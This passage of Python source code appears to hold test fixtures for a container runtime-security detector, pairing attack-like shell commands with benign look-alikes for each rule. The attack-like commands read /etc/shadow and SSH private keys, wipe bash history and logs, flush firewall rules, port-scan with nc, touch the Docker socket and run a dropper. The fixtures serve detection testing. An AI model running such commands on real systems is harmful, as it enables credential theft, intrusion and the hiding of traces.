         deed("mkdir -p /etc/ssh; echo k > /etc/ssh/ssh_host_ecdsa_key; cp /etc/ssh/ssh_host_ecdsa_key /tmp"),
         # by where it lies, whatever it is called
         deed("mkdir -p /root/.ssh; echo k > /root/.ssh/deploy; cat /root/.ssh/deploy"),
         deed("mkdir -p /srv/.ssh; echo k > /srv/.ssh/prod.key; python3 -c 'open(\"/srv/.ssh/prod.key\").read()'"),
         deed("mkdir -p /etc/ssl/private; echo k > /etc/ssl/private/x; base64 /etc/ssl/private/x"),
         deed("mkdir /opt/tls; echo k > /opt/tls/tls.key; cat /opt/tls/tls.key")],
        [deed("mkdir -p /root/.ssh; cd /root/.ssh; echo x > config; echo x > known_hosts; echo x > authorized_keys; "
              "cat config known_hosts authorized_keys; ls -l; mkdir -p /opt/private; cat /opt/private/*"),
         deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa.new; mv /root/.ssh/id_rsa.new /root/.ssh/id_rsa"),
         deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa.pub; cat /root/.ssh/id_rsa.pub; "
              "echo k > /root/.ssh/id_rsa; chmod 600 /root/.ssh/id_rsa")]),
    "shadow": (
        [deed("cat /etc/shadow"), deed(FLOOD.format("cat /etc/shadow")), deed("echo x > /etc/shadow-; cat /etc/shadow-"),
         deed("cd /etc; ln shadow /tmp/x"), deed(RING.format("open /etc/shadow"))],
        [deed("passwd -S root; su -s /bin/sh -c true daemon; useradd -r svc; getent passwd root")]),
    "environ": (
        [deed(SIBLING.format("cat /proc/$p/environ"))],
        [deed("cat /proc/self/environ; ps ewww; env")]),
    "history": (
        [deed("echo x > /root/.bash_history; rm /root/.bash_history"),
         deed("echo x > /root/.bash_history; cd /root; rm .bash_history"),
         deed("echo x > /root/.bash_history; : > /root/.bash_history"),
         deed("echo x > /root/.python_history; mv /root/.python_history /tmp/x"),
         deed("echo x > /root/.bash_history; truncate -s 0 /root/.bash_history"),
         deed("echo x > /root/.bash_history; cd /root; " + RING.format("unlink .bash_history")),
         deed("echo x > /root/.bash_history; shred /root/.bash_history"), deed("HISTFILE=/dev/null bash -c id"),
         deed("export HISTFILE=; id")],
        [deed("echo x >> /root/.bash_history; HISTFILE=/root/.bash_history bash -c "
              "'set -o history; history -a'"),
         deed("id; bash -c 'ls /'; HISTFILE=/dev/null date", env={"HISTFILE": "/dev/null"})]),
    "logs": (
        [deed("echo x > /var/log/wtmp; rm /var/log/wtmp"),
         deed("echo x > /var/log/wtmp; cd /var; rm -r log"),
         deed("echo x > /var/log/wtmp; ln -s /var /tmp/l; rm /tmp/l/log/wtmp"),
         deed("echo x > /var/log/auth.log; sed -i /x/d /var/log/auth.log"),
         deed("echo x > /var/log/lastlog; python3 -c 'import os; os.truncate(\"/var/log/lastlog\", 0)'")],
        [deed("mkdir -p /var/log/app; echo x > /var/log/app/a.log; mv /var/log/app/a.log "
              "/var/log/app/a.log.1; : > /var/log/app/a.log; gzip /var/log/app/a.log.1; "
              "rm /var/log/app/a.log.1.gz")]),
    "firewall": (
        [deed("tc qdisc del dev lo root"), deed("ip route add 203.0.113.0/24 dev lo"),
         deed("nft -f /dev/null"), deed("iptables-legacy -F"), deed("python3 -c 'import socket; socket.socket(16, 3, 12)'"),
         deed(RING.format("socket 16 3 0") + "; " + RING.format("socket 16 3 12"))],
        [deed("ip -f inet addr; ip -j link show; tc qdisc show; nft list ruleset; iptables -L; ip route")]),
    "own-pins": (
        [deed("mkdir -p /sys/fs/bpf/bulkhead; echo > /sys/fs/bpf/bulkhead/flow")],
        [deed("ls /sys/fs/bpf /run /var/lib; mkdir -p /run/app; echo > /run/app/pid")]),
    "own-signal": ("kill -9 of the daemon", "signals that end nobody"),
    "scan": (
        [deed("for p in $(seq 1 30); do nc -w 1 -z 198.51.100.7 $p; done"),
         deed("for p in $(seq 1 30); do nc -w 1 -z 198.51.100.$p 22; done")],
        [deed("for i in $(seq 1 40); do nc -w 1 -z 198.51.100.7 $((5000 + i % 3)); done"),
         # an agent of a world where everything is denied: a dozen targets over and over, and no names
         deed("for i in 1 2 3; do for h in $(seq 1 12); do nc -w 1 -z 198.51.100.$h 9100; "
              "nc -w 1 -z 198.51.100.$h 8080; done; done; "
              "for i in $(seq 1 20); do echo x | nc -u -w 1 198.51.100.53 53; done")]),
    "dns-tunnel": ("elsewhere", "trace_names.py"),
    "cpu": ("elsewhere", "trace_rates.py"),
    "runtime-socket": (
        [deed(PYTHON.format(UNIX.format("/run/docker.sock"))),
         deed(PYTHON.format(UNIX.format("/run/cri-dockerd.sock"))),
         deed(BIND.format(1, "/run/containerd.sock") + RING.format("connect /run/containerd.sock 1") + "; kill $p"),
         deed(BIND.format(1, "/run/docker.sock") + "ln -s docker.sock /run/x; cd /run; " + RING.format("connect x 1") + "; kill $p"),
         deed(PYTHON.format(DATAGRAM.format("/run/crio.sock", "c.connect(\"/run/crio.sock\")"))),
         # without a connection
         deed(PYTHON.format(DATAGRAM.format("/run/docker.sock", "c.sendto(b\"x\", \"/run/docker.sock\")"))),
         deed(PYTHON.format(DATAGRAM.format("/run/docker.sock", "import os; os.symlink(\"docker.sock\", \"/run/x\"); "
                                            "os.chdir(\"/run\"); c.sendmsg([b\"x\"], [], 0, \"x\")"))),
         deed(PYTHON.format(DATAGRAM.format("/run/crio.sock", MANY.format("/run/crio.sock")))),
         deed(PYTHON.format(DATAGRAM.format("/run/docker.sock", "import os; open(\"/opt/x\", \"w\"); "
                                            "os.system(\"mount --bind /run/docker.sock /opt/x\"); c.sendto(b\"x\", \"/opt/x\"); os.system(\"umount /opt/x\")"))),
         deed(PYTHON.format(DATAGRAM.format("/run/docker.sock", "open(\"/tmp/bound\", \"w\"); s.recv(1)")) + " & until [ -e /tmp/bound ]; do :; done; "
              + RING.format("send /run/docker.sock") + "; wait"),
         deed(PYTHON.format(DATAGRAM.format("/run/docker.sock", "open(\"/tmp/bound\", \"w\"); s.recv(1)")) + " & until [ -e /tmp/bound ]; do :; done; "
              + RING.format("sendmsg /run/docker.sock") + "; wait")],
        [deed(PYTHON.format(UNIX.format("/run/app.sock"))),
         deed(BIND.format(1, "/run/app.sock") + RING.format("connect /run/app.sock 1") + "; kill $p"),
         deed(PYTHON.format(DATAGRAM.format("/run/app.sock", "c.connect(\"/run/app.sock\"); c.send(b\"x\"); c.sendto(b\"x\", \"/run/app.sock\")"))),
         deed(PYTHON.format(DATAGRAM.format("/run/log", "c.sendmsg([b\"x\"], [], 0, \"/run/log\"); " + MANY.format("/run/log")))),
         deed(PYTHON.format("import socket; s = socket.socket(2, 2); s.bind((\"127.0.0.1\", 0)); s.sendto(b\"x\", s.getsockname()); "
                            "a, b = socket.socketpair(); a.sendmsg([b\"x\"])"))]),
    "privileged": ([deed("true")], [deed("true", usual=True)]),
    "posture": ([deed("true", usual=True)], [deed("true", usual=True, uid=12, readonly=True)]),
    "overflow": (
        [deed("for d in $(seq 1 60); do mkdir /opt/d$d; for f in $(seq 1 50); do : > /opt/d$d/f$f; done; done")],
        [deed("mkdir /opt/many; for f in $(seq 1 400); do : > /opt/many/f$f; done")]),
    "drop-chain": (
        [deed("cat /bin/true > /opt/late; chmod 755 /opt/late; /opt/late"),
         # on a volume: a program among many files, a script, a library, a program that its loader runs
         deed("for i in $(seq 70); do cp /bin/true /srv/x$i; done; mv /srv/x70 /srv/y; /srv/y", volume=True),
         deed("echo true > /srv/x; sh /srv/x", volume=True),
         deed(f"cp {LIBRARY} /srv/x.so; " + LOADS.format("/srv/x.so"), volume=True),
         deed("cp /bin/true /srv/x; /lib64/ld-linux-x86-64.so.2 /srv/x", volume=True)],
        [deed("cat /bin/true > /opt/late; chmod 755 /opt/late; cp /etc/hostname /opt/x; chmod 755 /usr/bin/date; date"),
         deed("/srv/tool; chmod 755 /srv/tool /srv/script; /srv/tool; sh /srv/script; cp /srv/tool /srv/copy; cat /srv/copy; "
              "mkdir /srv/d; mv /srv/copy /srv/d; " + LOADS.format("/srv/lib.so"), volume=True)]),
    "dropper": (
        [deed("cp /usr/bin/python3 /opt/bot; python3 -c '" + GO + "import os; "
              "os.execv(\"/opt/bot\", [\"/opt/bot\", \"-c\", \"import socket; s = socket.socket(); "
              "s.setblocking(False); s.connect_ex((\\\"198.51.100.99\\\", 80))\"])'",
              labels=OUT)],
        [deed("python3 -c '" + GO + "import os; os.execv(\"/usr/bin/nc\", "
              "[\"nc\", \"-w\", \"1\", \"-z\", \"198.51.100.99\", \"80\"])'", labels=OUT)]),
    "scan-edge": (
        [deed("for p in $(seq 1 30); do nc -w 1 -z 198.51.100.7 $p; done; nc -w 1 -z 198.51.100.99 80",
              labels=OUT)],
        [deed("nc -w 1 -z 198.51.100.99 80", labels=OUT)]),
    "new-exec": ("elsewhere", "baseline_real.py"),
    "new-chain": ("elsewhere", "baseline_real.py"),
    "new-edge": ("elsewhere", "baseline_real.py"),
    "new-port": ("elsewhere", "baseline_real.py"),
    "new-path": ("elsewhere", "baseline_real.py"),
    "new-syscall": ("elsewhere", "baseline_real.py"),
    "anomaly": ("elsewhere", "baseline_real.py"),
    "policy-exec": (
        [deed("/usr/bin/id", **policy(exec={"allow": ["/usr/bin/dash", "/bin/dash", "/usr/bin/date"]})),
         deed("cp /bin/true /opt/x; /opt/x", **policy(exec={"origin": ["image"]}))],
        [deed("/usr/bin/date", **policy(exec={"origin": ["image"], "allow": [
            "/usr/bin/dash", "/bin/dash", "/usr/bin/date"]}))]),
    "policy-file": (
        [deed("echo x > /etc/app.conf", **WRITES),
         deed("mkdir /opt/d", **WRITES),
         deed(RING.format("mkdir /opt/d"), **WRITES),
         deed("mkfifo /opt/p", **WRITES),
         deed("ln -s x /opt/l", **WRITES),
         deed("ln /etc/hostname /tmp/h; ln /etc/hostname /opt/h", **WRITES),
         deed("mv /etc/hostname /tmp/h", **WRITES),
         deed("chmod 600 /etc/hostname", **WRITES),
         deed("chown 1:1 /etc/hostname", **WRITES),
         deed("rm /etc/hostname", **WRITES),
         deed("rmdir /usr/local/games", **WRITES),
         deed("touch -h -d 2001-01-01 /etc/alternatives/awk", **WRITES),
         deed("python3 -c 'import os; os.truncate(\"/etc/hostname\", 1)'", **WRITES),
         deed("python3 -c 'import os; os.setxattr(\"/etc/hostname\", \"trusted.x\", b\"1\")'", **WRITES),
         deed("python3 -c 'import os; os.fchmod(os.open(\"/etc/hostname\", 0), 0o600)'", **WRITES),
         deed("python3 -c 'import os; os.chown(\"hostname\", 1, 1, dir_fd=os.open(\"/etc\", 0))'", **WRITES),
         deed("mkdir /tmp/m; mount --bind /etc /tmp/m; echo x > /tmp/m/app.conf; umount /tmp/m", **WRITES)],
        [deed("echo x > /var/log/app.log; echo x > /tmp/x; echo x > /dev/null; cat /etc/passwd", **WRITES),
         deed("mkdir /tmp/d; cd /tmp; echo x > d/x; chmod 600 d/x; chown 1:1 d/x; touch -h -d 2001-01-01 d/x; ln d/x d/y; ln -s x d/z; "
              "mkfifo d/p; mv d /var/log/d; rm /var/log/d/*; rmdir /var/log/d; python3 -c 'import os; f = os.open(\"/tmp/f\", 66); "
              "os.fchmod(f, 0o600); os.fchown(f, 1, 1); os.utime(f); os.setxattr(\"f\", \"trusted.x\", b\"1\"); os.truncate(\"f\", 0)'", **WRITES)]),
    "policy-syscall": (
        [deed(SYSCALL.format("101, 0, 0, 0, 0"), **policy(syscalls={"deny": ["ptrace", "bpf"]}))],
        [deed("id; date; ls /", **policy(syscalls={"deny": ["ptrace", "bpf"]}))]),
    "policy-user": (
        [deed("setpriv --reuid=12 --clear-groups id", **policy(users={"deny": [12]}))],
        [deed("setpriv --reuid=13 --clear-groups id", **policy(users={"deny": [12]}))]),
    "max-lifetime": (
        [deed("sleep 1.2; id", **policy(maxLifetime="1s"))],
        [deed("sleep 1.2; id", **policy(maxLifetime="1h"))]),
}
